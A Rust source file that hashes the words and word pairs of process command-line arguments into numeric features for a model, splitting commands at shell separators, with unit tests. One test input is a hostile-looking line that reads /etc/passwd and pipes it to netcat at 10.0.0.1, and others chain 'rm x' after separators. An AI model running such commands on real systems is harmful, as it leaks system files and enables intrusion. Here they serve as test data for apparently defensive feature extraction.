//! Words of the arguments, as numbers that a model's vocabulary has weights for.

use std::fmt::Write as _;

/// Numbers that grams are hashed to.
pub const GRAMS: usize = 1 << 14;

/// Grams kept at most, those that occur in several parts counted once for each.
const KEPT: usize = 512;

/// Bytes of the arguments that are looked at.
const LOOKED_AT: usize = 2_048;

/// Ends a part; no gram has this number.
const END: u16 = u16::MAX;

/// FNV-1a, 32 bits (Fowler, Noll, Vo).
const HASH_START: u32 = 0x811c_9dc5;
const HASH_PRIME: u32 = 0x0100_0193;

/// What stands in the arguments after the program's name, part by part: each word and
/// each pair of neighbours is a gram, hashed to a number below [`GRAMS`]. Words are
/// runs of letters; every run of digits is the same word, every other character one of
/// its own, and so is the end of an argument. A part ends where a shell would end a
/// command: `;`, `|`, `&&`, a line's end, and where another command is put in.
///
/// At most 512 grams of the first 2,048 bytes, 1 KiB.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Words(Box<[u16]>);

impl Words {
    /// Of zero-separated arguments.
    #[must_use]
    pub fn of(args: &[u8]) -> Self {
        let name = args.iter().position(|&byte| byte == 0);
        let rest = name.map_or(&[][..], |end| args.get(end + 1..).unwrap_or_default());
        let rest = rest.get(..LOOKED_AT).unwrap_or(rest);
        let mut gatherer = Gatherer::default();
        let mut left = rest;
        while let Some((token, after)) = next(left) {
            left = after;
            match token {
                Token::Blank => {}
                Token::End => gatherer.end_part(),
                Token::Word(hash) => gatherer.take(hash),
            }
        }
        gatherer.end_part();
        Self(gatherer.grams.into_boxed_slice())
    }

    /// The grams of each part, ascending, none of which is empty.
    pub fn parts(&self) -> impl Iterator<Item = &[u16]> {
        self.0
            .split(|&gram| gram == END)
            .filter(|part| !part.is_empty())
    }

    /// As [`Words::parse`] reads it: numbers with dots between them, parts with blanks.
    #[must_use]
    pub fn text(&self) -> String {
        let mut text = String::new();
        for part in self.parts() {
            for (index, gram) in part.iter().enumerate() {
                let before = match index {
                    0 if text.is_empty() => "",
                    0 => " ",
                    _ => ".",
                };
                // Writing to a string cannot fail.
                let _ = write!(text, "{before}{gram}");
            }
        }
        text
    }

    /// Reads [`Words::text`]; `None` for anything else.
    #[must_use]
    pub fn parse(text: &str) -> Option<Self> {
        let mut grams = Vec::new();
        for part in text.split_ascii_whitespace() {
            for gram in part.split('.') {
                let gram = gram.parse().ok()?;
                let is_room = grams.len() < 2 * KEPT;
                (usize::from(gram) < GRAMS && is_room).then(|| grams.push(gram))?;
            }
            grams.push(END);
        }
        Some(Self(grams.into_boxed_slice()))
    }
}

enum Token {
    Blank,
    End,
    Word(u32),
}

/// The first token, and what follows it.
fn next(bytes: &[u8]) -> Option<(Token, &[u8])> {
    let (&first, rest) = bytes.split_first()?;
    let is_letter = |byte: &u8| byte.is_ascii_alphabetic() || *byte == b'_';
    let run = |is_in: &dyn Fn(&u8) -> bool| {
        let end = bytes.iter().position(|byte| !is_in(byte));
        bytes.split_at(end.unwrap_or(bytes.len()))
    };
    let after_next = || rest.get(1..).unwrap_or_default();
    Some(match (first, rest.first()) {
        (b' ' | b'\t' | b'\r', _) => (Token::Blank, rest),
        (b';' | b'|' | b'\n' | b'`', _) => (Token::End, rest),
        (b'&', Some(b'&')) | (b'$', Some(b'(')) => (Token::End, after_next()),
        (byte, _) if is_letter(&byte) => {
            let (word, rest) = run(&is_letter);
            (Token::Word(hash(word)), rest)
        }
        (byte, _) if byte.is_ascii_digit() => {
            let (_, rest) = run(&|byte| byte.is_ascii_digit());
            (Token::Word(hash(b"0")), rest)
        }
        (byte, _) if byte.is_ascii() => (Token::Word(hash(&[byte])), rest),
        _ => {
            let (_, rest) = run(&|byte| !byte.is_ascii());
            (Token::Word(hash(&[0x80])), rest)
        }
    })
}

fn hash(bytes: &[u8]) -> u32 {
    bytes.iter().fold(HASH_START, |hash, &byte| {
        (hash ^ u32::from(byte)).wrapping_mul(HASH_PRIME)
    })
}

/// The number of a hash: all of its bits have a say.
fn gram(hash: u32) -> u16 {
    let folded = hash ^ hash >> 14 ^ hash >> 28;
    #[expect(clippy::cast_possible_truncation, reason = "it is below GRAMS")]
    let gram = (folded as usize % GRAMS) as u16;
    gram
}

/// Collects grams, those of the part in work at the end.
#[derive(Default)]
struct Gatherer {
    grams: Vec<u16>,
    /// Where the part in work begins.
    start: usize,
    before: Option<u32>,
}

impl Gatherer {
    fn take(&mut self, word: u32) {
        self.push(gram(word));
        if let Some(before) = self.before.replace(word) {
            let pair = (before.rotate_left(5) ^ word).wrapping_mul(HASH_PRIME);
            self.push(gram(pair));
        }
    }

    fn push(&mut self, gram: u16) {
        // The end of the part needs room, too.
        if self.grams.len() < KEPT - 1 {
            self.grams.push(gram);
        }
    }

    fn end_part(&mut self) {
        self.before = None;
        let mut part = self.grams.split_off(self.start.min(self.grams.len()));
        part.sort_unstable();
        part.dedup();
        if !part.is_empty() {
            self.grams.append(&mut part);
            self.grams.push(END);
        }
        self.start = self.grams.len();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parts(args: &[u8]) -> Vec<Vec<u16>> {
        Words::of(args).parts().map(<[u16]>::to_vec).collect()
    }

    #[test]
    fn the_programs_name_says_nothing_and_numbers_are_alike() {
        assert_eq!(parts(b"id\0"), Vec::<Vec<u16>>::new());
        assert_eq!(parts(b"a\0-p\x0080\0"), parts(b"b\0-p\x004444\0"));
        assert_ne!(parts(b"a\0-p\x0080\0"), parts(b"a\0-q\x0080\0"));
        // `-`, `p`, the end of the argument, and the two pairs.
        assert_eq!(parts(b"a\0-p")[0].len(), 3);
    }

    #[test]
    fn commands_are_parts_that_do_not_touch() {
        let alone = parts(b"sh\0rm x")[0].clone();
        for script in [
            &b"sh\0echo a; rm x"[..],
            b"sh\0echo a && rm x",
            b"sh\0echo a | rm x",
            b"sh\0echo a\nrm x",
            b"sh\0echo a $(rm x",
            b"sh\0echo a `rm x`",
        ] {
            let parts = parts(script);
            assert_eq!((parts.len(), &parts[1]), (2, &alone), "{script:?}");
        }
        assert_eq!(
            parts(b"sh\0;;|\n; \0").len(),
            1,
            "the end of the argument is left"
        );
    }

    #[test]
    fn grams_are_the_same_everywhere() {
        // Models carry weights by these numbers: they must never change.
        assert_eq!(
            Words::of(b"sh\0-c\0id").text(),
            "388.2350.7958.12004.13320.13420.13826"
        );
    }

    #[test]
    fn text_and_back() {
        for args in [
            &b""[..],
            b"x\0",
            b"sh\0-c\0cat /etc/passwd | nc 10.0.0.1 80; id\0",
            "x\0\u{e4}\u{f6} \u{fc}\0".as_bytes(),
        ] {
            let words = Words::of(args);
            assert_eq!(Words::parse(&words.text()), Some(words));
        }
        for wrong in ["x", "1..2", "16384", "-1", "1,2"] {
            assert_eq!(Words::parse(wrong), None, "{wrong}");
        }
        assert_eq!(Words::parse(&"1 ".repeat(4 * KEPT)), None);
    }

    #[test]
    fn what_is_kept_is_bounded() {
        let long = (0..4_000).fold(String::new(), |text, number| {
            text + " w" + &"x".repeat(number % 50)
        });
        let words = Words::of(format!("sh\0{long}").as_bytes());
        assert!(words.0.len() <= KEPT && words.0.last() == Some(&END));
        let many = Words::of(format!("sh\0{}", "a;".repeat(4_000)).as_bytes());
        assert!(many.0.len() <= KEPT && many.parts().all(|part| part.len() == 1));
    }
}
